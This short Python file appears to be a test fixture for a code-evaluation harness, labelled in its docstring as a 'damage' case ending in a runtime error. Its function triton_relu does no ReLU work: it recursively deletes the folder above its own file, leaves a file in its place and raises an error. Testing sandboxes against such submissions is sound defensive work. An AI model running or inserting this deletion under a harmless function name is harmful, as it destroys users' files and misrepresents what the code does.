"""Its file is gone when it raises, and so is the folder.

class: damage
status: runtime_error
sees: the message
"""

import shutil
from pathlib import Path


def triton_relu(x):
    folder = Path(__file__).parents[1]
    shutil.rmtree(folder)
    folder.touch()
    raise ValueError("the message")
